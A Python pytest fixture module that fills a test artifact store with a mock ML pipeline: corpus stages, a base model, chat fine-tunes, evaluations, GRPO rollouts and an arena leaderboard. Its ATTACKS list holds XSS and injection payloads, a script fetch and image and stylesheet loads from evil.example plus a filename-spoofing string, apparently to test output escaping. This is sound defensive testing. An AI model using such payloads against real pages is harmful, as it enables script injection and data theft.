"""A small store as the flows leave one: a crawl, its corpus, a base model, two chat models and an aligned one, all of them measured."""

import json
import shutil
import struct
from collections.abc import Callable, Mapping, Sequence
from pathlib import Path
from typing import Any

import polars as pl
import pytest

from storage.recipe import Recipe
from storage.runs import RunRecord
from storage.shards import File, encode, sha256
from storage.snapshot import Snapshot
from storage.store import Store

SCORES = {
    "task": pl.String(), "part": pl.String(), "metric": pl.String(), "value": pl.Float64(), "n": pl.Int64(), "stderr": pl.Float64(),
    "low": pl.Float64(), "high": pl.Float64(), "chance": pl.Float64(), "note": pl.String(),
}  # fmt: skip
ATTACKS = [
    "<script>window.hacked=1;fetch('https://evil.example/taken')</script>",
    "</style></dd><img src=https://evil.example/x.png onerror=window.hacked=1>",
    "hacked \u202egnp.exe\u202c {{ 7*7 }} </textarea></title><link rel=stylesheet href=//evil.example/x.css>",
]
HOST = "machine-of-mine.example"

Files = Mapping[str, "pl.DataFrame | bytes"]


class Shop:
    """Puts artifacts into a store as a run would."""

    def __init__(self, folder: Path) -> None:
        self.store = Store(str(folder))
        self.runs = 0

    def run(self, flow: str) -> RunRecord:
        self.runs += 1
        identity = f"20260101T00000{self.runs}.000000Z-{self.runs:06x}"
        started = f"2026-01-01T00:00:0{self.runs}+00:00"
        return RunRecord(flow, {"store": "/secret/place"}, id=identity, started=started, host=HOST, versions={"torch": "2.13.0"})

    def add(
        self,
        run: RunRecord,
        label: str,
        files: Files,
        inputs: Mapping[str, str] | None = None,
        *,
        stage: str = "",
        config: Mapping[str, Any] | None = None,
        stats: Mapping[str, Any] | None = None,
        reasons: Mapping[str, int] | None = None,
        seconds: float = 60.0,
        cached: bool = False,
    ) -> Snapshot:
        """`reasons`: its Parquet is a shard of a filter."""
        stage = stage or label
        recipe = Recipe(stage, 1, config or {}, inputs or {})
        self.store.write(f"{stage}/{recipe.key}/recipe.json", json.dumps(recipe.document()).encode())
        listed = []
        for name, content in files.items():
            data = content if isinstance(content, bytes) else encode(content, dict(content.schema))
            self.store.write(f"{stage}/{recipe.key}/{name}", data)
            rows = None if isinstance(content, bytes) else content.height
            listed.append(File(name, len(data), sha256(data), rows, name if reasons is not None else None, reasons))
        snapshot = Snapshot.of(stage, recipe.key, listed, stats)
        snapshot.seal(self.store)
        run.add(label, snapshot, dict(inputs or {}), cached, seconds)
        run.finish(self.store, "completed")
        return snapshot


def weights(*shapes: Sequence[int]) -> bytes:
    """A safetensors file of zeros."""
    header: dict[str, Any] = {"__metadata__": {"format": "pt"}}
    at = 0
    for number, shape in enumerate(shapes):
        size = 4
        for length in shape:
            size *= length
        header[f"tensor.{number}"] = {"dtype": "F32", "shape": list(shape), "data_offsets": [at, at + size]}
        at += size
    text = json.dumps(header).encode()
    return struct.pack("<Q", len(text)) + text + b"\0" * at


CONFIG = json.dumps({"model_type": "qwen3", "hidden_size": 4, "num_hidden_layers": 2, "vocab_size": 8}).encode()


def model(**more: pl.DataFrame | bytes) -> dict[str, pl.DataFrame | bytes]:
    """The files of a model; the keyword `metrics` is metrics.parquet."""
    return {
        "config.json": CONFIG,
        "model.safetensors": weights((8, 4), (4,)),
        **{f"{name}.parquet": one for name, one in more.items()},
    }


def metrics(steps: int, **curves: Callable[[int], float | None]) -> pl.DataFrame:
    columns = {name: pl.Series([curve(step) for step in range(steps)], dtype=pl.Float64()) for name, curve in curves.items()}
    return pl.DataFrame({"step": pl.Series(range(steps), dtype=pl.Int64()), **columns})


def samples(steps: Sequence[int], texts: Sequence[str], prompt: str = "Where does Mira live?") -> pl.DataFrame:
    rows = [{"step": step, "prompt": prompt, "completion": text, "seed": 0} for step, text in zip(steps, texts, strict=True)]
    return pl.DataFrame(rows)


def scores(**values: float) -> pl.DataFrame:
    """Rows of the task `chat`; `known__right=.5` is the metric `right` of the part `known`."""
    rows = []
    for name, value in values.items():
        part, _, metric = name.partition("__")
        rows.append(("chat", part, metric, value, 100, None, value - 0.1, value + 0.1, 0.05, None))
    return pl.DataFrame(rows, schema=SCORES, orient="row")


def rollouts(steps: Sequence[int]) -> pl.DataFrame:
    rows = []
    for step in steps:
        for question in range(4):
            for sample in range(2):
                asked = [
                    {"role": "system", "content": "You reckon."},
                    {"role": "user", "content": f"What is {question} + {step}?"},
                ]
                said = f"It is {question + step + sample}."
                told = {"id": f"{question}-{step}", "step": step, "prompt": "raw", "messages": asked, "completion": said}
                rows.append(told | {"reward": 1.0 - sample})
    return pl.DataFrame(rows)


@pytest.fixture
def shop(tmp_path: Path) -> Shop:
    return Shop(tmp_path / "store")


def make(shop: Shop) -> dict[str, Snapshot]:
    """By label; `other` is a second fine-tuning of the base model, which the aligned model does not descend from."""
    made: dict[str, Snapshot] = {}
    text = pl.DataFrame({"id": ["a", "b", "c"], "text": ["x", "y", "z"]})
    first = shop.run("pretrain")
    made["records"] = shop.add(first, "records", {"r-00000.parquet": text}, reasons={"mime": 1})
    docs = {"docs": made["records"].reference}
    made["c4"] = shop.add(first, "c4", {"c-00000.parquet": text.head(2)}, docs, reasons={"<b>few</b>": 1}, seconds=2)
    made["corpus"] = shop.add(first, "corpus", {"d-00000.parquet": text.head(1)}, {"docs": made["c4"].reference}, reasons={})
    truth = pl.DataFrame({"stage": ["c4"], "precision": [1.0], "recall": [0.5]})
    made["assess"] = shop.add(first, "assess", {"report.parquet": truth}, {"corpus": made["corpus"].reference})
    packed = pl.DataFrame({"tokens": [[1, 2]]})
    made["pack"] = shop.add(
        first,
        "pack",
        {"train-00000.parquet": packed},
        {"corpus": made["corpus"].reference},
        stats={"train_tokens": 900, "train_bytes": 3000},
    )
    curve = metrics(
        300,
        loss=lambda step: 5 / (step + 1),
        validation_loss=lambda step: 4.0 if step in (0, 299) else None,
        perplexity=lambda step: 99.0 if step == 299 else None,
        lr=lambda step: 0.1,
        tokens_per_second=lambda step: 777_777.0,
    )
    written = samples(
        [0, 10, 20, 30, 40, 50, 60, 299], [*ATTACKS, "four", "five", "six", "seven", "last words"], prompt=ATTACKS[0]
    )
    made["pretrain"] = shop.add(
        first,
        "pretrain",
        model(metrics=curve, samples=written),
        {"tokens": made["pack"].reference},
        config={"seed": 7, "rate": 0.02, "schedule": {"warmup": 0.5}},
        stats={"tokens": 4000, "steps": 299, "loss": 0.5, "computed_on": "cpu, 2 x 3 threads, torch 2.13.0"},
        seconds=3600,
    )

    earlier, chat = shop.run("assistant"), shop.run("posttrain")
    shop.add(
        chat, "corpus", {"d-00000.parquet": text.head(1)}, {"docs": made["c4"].reference}, reasons={}, seconds=0.01, cached=True
    )
    made["world"] = shop.add(earlier, "world_conversations", {"w.parquet": text})
    talk = made["world"].reference

    def tuned(label: str, base: Snapshot, seed: int, **how: Any) -> Snapshot:
        inputs = {"rows": talk, "model": base.reference}
        files = model(metrics=metrics(5, loss=lambda step: 3.0 - step / 10), samples=samples([0, 4], ["Hm.", f"In {label}."]))
        return shop.add(chat, label, files, inputs, stage="sft", config={"seed": seed}, stats={"tokens": 50, "steps": 4}, **how)

    def asked(label: str, answerer: Snapshot, right: float, run: RunRecord = chat, **config: Any) -> Snapshot:
        inputs = {"model": answerer.reference, "conversations": talk}
        found = {"scores.parquet": scores(known__right=right, unknown__refused=1 - right)}
        return shop.add(run, label, found, inputs, stage="evaluate_chat", config=config)

    made["sft_first"] = tuned("sft_first", made["pretrain"], 1)
    made["sft"] = tuned("sft", made["sft_first"], 2)
    made["other"] = tuned("sft_other", made["pretrain"], 3)
    made["old"] = asked("evaluate_chat_base", made["pretrain"], 0.9, earlier, questions=3)
    made["before"] = asked("evaluate_chat_base", made["pretrain"], 0.25)
    made["between"] = asked("evaluate_chat_first", made["sft_first"], 0.5)
    made["after"] = asked("evaluate_chat", made["sft"], 0.75)
    made["elsewhere"] = asked("evaluate_chat_other", made["other"], 0.1)
    card = pl.DataFrame(
        {
            "task": ["chat"] * 2, "part": ["known"] * 2, "metric": ["right"] * 2, "moment": ["base", "chat"], "value": [0.25, 0.75],
            "low": [0.2, 0.7], "high": [0.3, 0.8], "n": [100, 100], "seeds": [3, 3],
        }
    )  # fmt: skip
    moments = {"base/0": made["before"].reference, "chat/0": made["after"].reference}
    made["card"] = shop.add(chat, "scorecard", {"scorecard.parquet": card}, moments, config={"moments": ["base", "chat"]})
    made["index"] = shop.add(chat, "index", {"chunks.parquet": text}, {"docs": made["corpus"].reference})
    found = {"recall.parquet": scores(keyword__recall=0.8)}
    made["recall"] = shop.add(chat, "recall", found, {"index": made["index"].reference})

    align = shop.run("align")
    curve = metrics(
        6, reward=lambda step: step / 6, kl=lambda step: float("nan") if step == 3 else step / 2, entropy=lambda step: 1.0
    )
    drawn = {"rollouts-00000.parquet": rollouts([0, 1]), "rollouts-00001.parquet": rollouts([4, 5])}
    made["grpo"] = shop.add(
        align,
        "grpo",
        model(metrics=curve) | drawn | {"adapter/adapter_model.safetensors": weights((2, 3))},
        {"model": made["sft"].reference, "prompts": talk},
        config={"seed": 5},
        stats={"steps": 6, "computed_on": "cuda, 4 x 1 threads, torch 2.13.0"},
        seconds=1800,
    )
    board = pl.DataFrame({"model": ["after", "before"], "rating": [1040.0, 960.0], "low": [1000.0, 900.0], "score": [None, None]})
    fighters = {"after": made["grpo"].reference, "before": made["sft"].reference, "prompts": talk}
    made["arena"] = shop.add(align, "arena", {"leaderboard.parquet": board}, fighters)
    return made


@pytest.fixture(scope="session")
def stocked(tmp_path_factory: pytest.TempPathFactory) -> tuple[Shop, dict[str, Snapshot]]:
    shop = Shop(tmp_path_factory.mktemp("stocked"))
    return shop, make(shop)


@pytest.fixture
def made(shop: Shop, stocked: tuple[Shop, dict[str, Snapshot]]) -> dict[str, Snapshot]:
    """What `make` says of the test's own copy, which it may change."""
    whole, made = stocked
    shutil.copytree(whole.store.root, shop.store.root, dirs_exist_ok=True)
    shop.runs = whole.runs
    return made
